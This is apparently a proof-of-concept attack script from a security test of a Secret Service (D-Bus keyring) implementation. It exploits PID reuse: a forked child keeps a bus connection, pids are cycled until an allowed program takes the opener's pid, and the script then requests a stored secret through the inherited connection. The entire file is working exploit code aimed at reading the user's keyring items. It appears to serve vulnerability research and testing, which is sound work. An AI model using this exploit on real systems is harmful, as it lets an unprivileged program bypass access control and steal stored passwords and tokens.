"""Attack 3 of issue 30 on the Secret Service, as an ordinary program of the user: open a bus
connection, leave it to a child, exit, cycle pids (pid_cycle) until an allowed program runs under
the opener's pid, then ask for the item on the connection the bus ties to that pid.

Usage: bus_pid_reuse.py PACKAGES PID_CYCLE ALLOWED ITEM_PATH MODE
PACKAGES holds jeepney; MODE 'hello-first' completes the connection (Hello, then OpenSession)
before the opener exits, 'hello-late' authenticates only and sends Hello after the reuse.
Prints 'reused ANSWER' (the secret or the D-Bus error name), or 'missed' when no attempt
got the pid within the time."""
import ctypes
import os
import signal
import socket
import subprocess
import sys

sys.path.insert(0, sys.argv[1])
from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call  # noqa: E402
from jeepney.auth import BEGIN, Authenticator  # noqa: E402
from jeepney.io.blocking import DBusConnection  # noqa: E402

PID_CYCLE, ALLOWED, ITEM, MODE = sys.argv[2:6]
P = 'org.freedesktop.Secret.'


def connect():
    path = os.environ['DBUS_SESSION_BUS_ADDRESS'].split('unix:path=', 1)[1].split(',')[0]
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    authenticator = Authenticator()
    for request in authenticator:
        sock.sendall(request)
        authenticator.feed(sock.recv(1024))
    sock.sendall(BEGIN)
    return sock


def call(connection, path, interface, method, signature='', *arguments):
    address = DBusAddress(path, bus_name='org.freedesktop.secrets', interface=P + interface)
    reply = connection.send_and_get_reply(new_method_call(address, method, signature, arguments))
    if reply.header.message_type == MessageType.error:
        return reply.header.fields[HeaderFields.error_name]
    return reply.body


def ask(connection, session):
    if MODE == 'hello-late':
        connection = DBusConnection(connection)  # says Hello
        session = call(connection, '/org/freedesktop/secrets', 'Service', 'OpenSession', 'sv', 'plain', ('s', ''))[1]
    reply = call(connection, ITEM, 'Item', 'GetSecret', 'o', session)
    return bytes(reply[0][2]).decode() if isinstance(reply, tuple) else reply


ctypes.CDLL(None, use_errno=True).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
for attempt in range(20):
    go_r, go_w = os.pipe()
    answer_r, answer_w = os.pipe()
    opener = os.fork()
    if opener == 0:
        connection = connect()
        session = None
        if MODE == 'hello-first':
            connection = DBusConnection(connection)  # says Hello
            session = call(connection, '/org/freedesktop/secrets', 'Service', 'OpenSession', 'sv', 'plain', ('s', ''))[1]
        if os.fork() == 0:
            answer = ask(connection, session) if os.read(go_r, 1) == b'g' else 'not asked'
            os.write(answer_w, answer.encode())
            os._exit(0)
        os._exit(0)
    os.waitpid(opener, 0)
    # pid_cycle leaves ALLOWED running under the opener's pid; as subreaper this process reaps it.
    reused = subprocess.run([PID_CYCLE, str(opener), '60', ALLOWED, '60']).returncode == 0
    os.write(go_w, b'g' if reused else b'n')
    answer = os.read(answer_r, 4096).decode()
    if reused:
        os.kill(opener, signal.SIGKILL)
        os.waitpid(opener, 0)
        print('reused', answer)
        break
else:
    print('missed')
